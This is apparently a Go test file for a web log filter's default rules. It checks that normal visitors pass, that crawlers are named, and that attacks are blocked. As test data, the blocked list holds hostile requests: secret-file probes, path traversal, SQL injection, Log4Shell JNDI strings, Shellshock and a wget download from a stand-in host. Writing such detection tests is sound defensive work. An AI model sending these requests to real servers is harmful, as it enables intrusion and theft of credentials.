package rules

import (
	"io/fs"
	"strings"
	"testing"
)

func TestDefault_PeoplePass(t *testing.T) {
	const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0"
	var people []logLine
	for _, url := range []string{
		"/", "/index.php?page=2", "/wp-login.php", "/wp-login.php?redirect_to=https%3A%2F%2Fwww.example.org%2Fwp-admin%2F",
		"/wp-admin/", "/wp-admin/post.php?post=12&action=edit", "/wp-admin/admin-ajax.php", "/wp-admin/async-upload.php",
		"/wp-content/plugins/contact/js/jquery.form.min.js?ver=4.4", "/wp-content/uploads/2016/01/backup.png",
		"/wp-includes/js/jquery/jquery.js?ver=1.11.3", "/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fwww.example.org%2F",
		"/xmlrpc.php", "/xmlrpc.php?rsd", "/2015/08/10/an-article/trackback/", "/wp-comments-post.php", "/?s=backup",
		"/2015/06/how-to-edit-wp-config-php/", "/2016/02/what-is-in-etc-passwd/", "/backup-and-restore/", "/the-.env-file-explained/",
		"/?s=wp-config.php", "/?s=%2Fetc%2Fpasswd", "/?s=union+select", "/?s=phpunit", "/search?q=select+sleep+from+union",
		"/user/", "/user/register/", "/account/", "/admin/", "/administrator/", "/user/login.php", "/phpmyadmin/index.php",
		"/shell/", "/blog/shell.php", "/downloads/site.zip", "/cgi-bin/search.cgi?q=test", "/git/project.git/info/refs",
		"/project.git/HEAD", "/.git/HEAD", "/owner/repo/src/branch/main/.env.example", "/repo/plain/docker-compose.yml",
		"/thumb.php?src=../../uploads/a.jpg", "/../style.css", "/css/../img/a.png", "/ads.txt", "/browserconfig.xml",
		"/.well-known/security.txt", "/.well-known/acme-challenge/x", "/favicon.ico", "/sitemap.xml", "/status?=1",
		"/%D8%B9%DA%A9%D8%B3/", "/a%27b/", "/rock'n'roll+and+2=3", "/?x=${value}", "/%7B%7Bitem.url%7D%7D", "http://www.example.org/page",
		"/image?name=black...jpg", "/actuator/health", "/config/", "/env", "/vendor/bootstrap/css/bootstrap.css",
	} {
		people = append(people, logLine{ip: "192.0.2.1", vhost: "www.example.org", url: url, ref: "-", ua: firefox})
	}
	for _, ref := range []string{
		"-", "", "https://www.google.com/", "https://www.example.org/how-semalt.com-spams-us/", "https://example.org/?q=semalt.com",
		"http://notsemalt.org/", "https://www.bing.com/search?q=buttons-for-website.com", "https://forum.example.org/xrus.org",
	} {
		people = append(people, logLine{ip: "192.0.2.1", url: "/", ref: ref, ua: firefox})
	}
	for _, ua := range []string{
		firefox, "-", "",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
		"Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile Safari/537.36",
		"Mozilla/5.0 (Linux; Android 7.0; Cubot Note Build/NRD90M) AppleWebKit/537.36 Chrome/64.0 Mobile Safari/537.36",
		"Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/47.0 YaBrowser/16.2.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/200.0 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 9_2 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Mobile/13D15 [FBAN/FBIOS;FBAV/50.0;FBBV/1]",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
		"WhatsApp/2.23.20.0 A", "MobileSafari/604.1 CFNetwork/1410.0.3 Darwin/22.6.0", "okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 6)",
		"Apache-HttpClient/UNAVAILABLE (java 1.4)", "Mozilla/5.0 (X11; Linux x86_64; rv:38.0) Gecko/20100101 Thunderbird/38.6.0",
		"Liferea/1.8.3 (Linux; en_GB.UTF-8; http://liferea.sf.net/)", "NetNewsWire (RSS Reader; https://netnewswire.com/)",
		"Opera/9.80 (J2ME/MIDP; Opera Mini/7.1/28.3; U; en) Presto/2.8.119 Version/11.10", "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1",
		"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; Embedded Web Browser from: http://bsalsa.com/)",
	} {
		people = append(people, logLine{ip: "192.0.2.1", url: "/", ref: "-", ua: ua})
	}
	for _, l := range people {
		if by := caughtBy(Default(), l); by != "" {
			t.Errorf("%+v is caught by %q", l, by)
		}
	}
}

func TestDefault_AttacksAreBlocked(t *testing.T) {
	for _, url := range []string{
		"/.env", "/api/.env", "/.env.production", "/.git/config", "/.aws/credentials", "/.svn/entries", "/id_rsa", "/wp-config.php.bak",
		"/wp-config.php", "/config.php.old", "/backup.sql", "/dump.sql.gz", "/etc/passwd", "/../../../../../etc/passwd", "/..%2F..%2Fetc%2Fpasswd",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/%2e%2e/%2e%2e/x", "/..%5c..%5cwinnt", "/x?file=../../../wp-config.php",
		"/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", "/wp-content/plugins/revslider/temp/update_extract/x.php",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
		"/cgi-bin/php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/wso.php", "/wp-content/alfa.php",
		"/a?id=1+union+all+select+null,null", "/a?id=-1%27%20UNION%20SELECT%201,2--", "/a?id=1+and+sleep(5)", "/a?id=1%27+or+1=1",
		"/?x=${jndi:ldap://192.0.2.9/a}", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%7D", "/?x=${${lower:j}ndi:ldap://x}",
		"/x.action?redirect:${%23a}", "/?class.module.classLoader.resources=x", "/actuator/env", "/actuator/gateway/routes",
		"/shell?cd+/tmp;wget+http://192.0.2.9/a", "/a?b=;wget+http://192.0.2.9/x", "/a?b=`curl%20x`", "/HNAP1", "/boaform/admin/formLogin",
		"/cgi-bin/luci/;stok=/locale", "/setup.cgi?next_file=netgear.cfg", "/+CSCOE+/logon.html", "/dana-na/x", "/jmx-console/",
		"/wls-wsat/CoordinatorPortType", "/owa/auth/x.js", "/phpMyAdmin-2.11/scripts/setup.php", "/w00tw00t.at.ISC.SANS", "/nmaplowercheck17",
		"www.example.org:443", "Cookie: mstshash=Administr",
	} {
		expect(t, logLine{url: url, ref: "-", ua: "Mozilla/5.0"}, Block, "attacks")
	}
	expect(t, logLine{url: "/", ref: "() { :; }; /bin/ping", ua: "x"}, Block, "attacks")
	expect(t, logLine{url: "/", ref: "${jndi:ldap://192.0.2.9}", ua: "x"}, Block, "attacks")
	for _, ref := range []string{"http://semalt.com/crawler.php", "https://www.semalt.com", "http://buttons-for-website.com", "http://darodar.com/x", "http://burger-imperia.com/"} {
		expect(t, logLine{url: "/", ref: ref, ua: "x"}, Block, "spam")
	}
}

func TestDefault_BotsAreIgnoredAndNamed(t *testing.T) {
	for ua, want := range map[string][2]string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)":                                                            {"Googlebot", "search engines"},
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116 Safari/537": {"bingbot", "search engines"},
		"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)":                                                                    {"YandexBot", "search engines"},
		"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)":                                                 {"Baiduspider", "search engines"},
		"Mozilla/5.0 (Macintosh) Version/17.4 Safari/605 (Applebot/0.1; +http://www.apple.com/go/applebot)":                                   {"Applebot", "search engines"},
		"DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)":                                                                          {"DuckDuckBot", "search engines"},
		"Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)":                                                 {"PetalBot", "search engines"},
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)":                              {"GPTBot", "ai crawlers"},
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)":                             {"ClaudeBot", "ai crawlers"},
		"CCBot/2.0 (https://commoncrawl.org/faq/)":                                                                                            {"Common Crawl", "ai crawlers"},
		"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)":    {"Bytespider", "ai crawlers"},
		"meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)":                                           {"Meta AI", "ai crawlers"},
		"Mozilla/5.0 (compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)":                                                   {"PerplexityBot", "ai crawlers"},
		"Mozilla/5.0 (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)":                                            {"Amazonbot", "ai crawlers"},
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)":                                                                  {"AhrefsBot", "seo crawlers"},
		"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)":                                                         {"SemrushBot", "seo crawlers"},
		"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)":                                                                       {"MJ12bot", "seo crawlers"},
		"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)":                                            {"DotBot", "seo crawlers"},
		"jetmon/1.0 (Jetpack Site Uptime Monitor by WordPress.com)":                                                                           {"Jetpack Monitor", "monitors"},
		"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)":                                                              {"UptimeRobot", "monitors"},
		"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)":                                                                               {"Pingdom", "monitors"},
		"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)":                                                           {"Facebook", "link previews"},
		"Twitterbot/1.0": {"X / Twitter", "link previews"},
		"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)":                                {"Slack", "link previews"},
		"Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)":                         {"Discord", "link previews"},
		"Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)":                 {"Feedly", "feed readers"},
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/101.0 Safari/537.36":     {"Headless Chrome", "headless browsers"},
		"Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)": {"Internet Archive", "archivers"},
		"curl/8.5.0":             {"curl", "tools"},
		"Wget/1.21":              {"Wget", "tools"},
		"python-requests/2.32.3": {"Python", "tools"},
		"Go-http-client/1.1":     {"Go", "tools"},
		"Mozilla/5.0 zgrab/0.x":  {"zgrab", "scanners"},
		"masscan/1.3":            {"masscan", "scanners"},
		"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)": {"nuclei", "scanners"},
		"() { :; }; /bin/bash -c id":                                        {"Shellshock", "scanners"},
		"${jndi:ldap://192.0.2.9/a}":                                        {"Log4Shell", "scanners"},
		"WordPress/6.4; https://example.org":                                {"WordPress", "site services"},
		"Mozilla/5.0 (compatible; UnheardOfBot/0.1; +https://bot.example/)": {"another bot", "unnamed bots"},
		"Mozilla/5.0 (compatible; UnheardOf; https://bot.example/)":         {"another bot", "unnamed bots"},
		"unheardof-crawler":                                                 {"another bot", "unnamed bots"},
		"MyBot/1.0":                                                         {"another bot", "unnamed bots"},
	} {
		rule := expect(t, logLine{url: "/", ref: "-", ua: ua}, Ignore, want[1])
		if rule.Name != want[0] {
			t.Errorf("%s: named %q, want %q", ua, rule.Name, want[0])
		}
	}
}

// expect sifts the line by the default rules and returns the rule that caught it.
func expect(t *testing.T, l logLine, action Action, family string) Rule {
	t.Helper()
	v := Default().NewSifter().Sift(Line{IP: "192.0.2.1", Vhost: "www.example.org", URL: l.url, Ref: l.ref, UA: l.ua})
	if v.Rule < 0 {
		t.Errorf("%+v passes", l)
		return Rule{}
	}
	rule := Default().Rules()[v.Rule]
	if v.Action != action || rule.Family != family {
		t.Errorf("%+v: %v by %q of %q, want %v by one of %q", l, v.Action, rule.Text, rule.Family, action, family)
	}
	return rule
}

func TestDefault_NamesAreForPeople(t *testing.T) {
	for _, r := range Default().Rules() {
		if strings.ContainsAny(r.Name, `\^$|*+?[](){}`) || r.Family == "" {
			t.Errorf("%s:%d %q is named %q", r.File, r.Line, r.Text, r.Name)
		}
	}
}

func TestDefault_NothingGoesByAddressOrCountry(t *testing.T) {
	for _, r := range Default().Rules() {
		if r.Kind == IP || r.Kind == Net {
			t.Errorf("%s:%d %q is an address or network", r.File, r.Line, r.Text)
		}
	}
}

// A rule without words makes every new value 1 µs dearer; see literal.go.
func TestDefault_EveryRuleHasWordsToLookFor(t *testing.T) {
	for kind, p := range Default().patterns {
		for _, at := range p.wordless {
			t.Errorf("%v %q: no word of three letters that each match has; split it", Kind(kind), p.list[at].re)
		}
	}
}

func TestDefault_FolderHoldsRuleFilesOnly(t *testing.T) {
	files, err := fs.ReadDir(defaultFolder(), ".")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if dot := strings.LastIndexByte(f.Name(), '.'); dot < 0 {
			t.Errorf("%s is no rule file", f.Name())
		} else if _, ok := kindOfFile(f.Name()[dot:]); !ok {
			t.Errorf("%s is no rule file", f.Name())
		}
	}
}
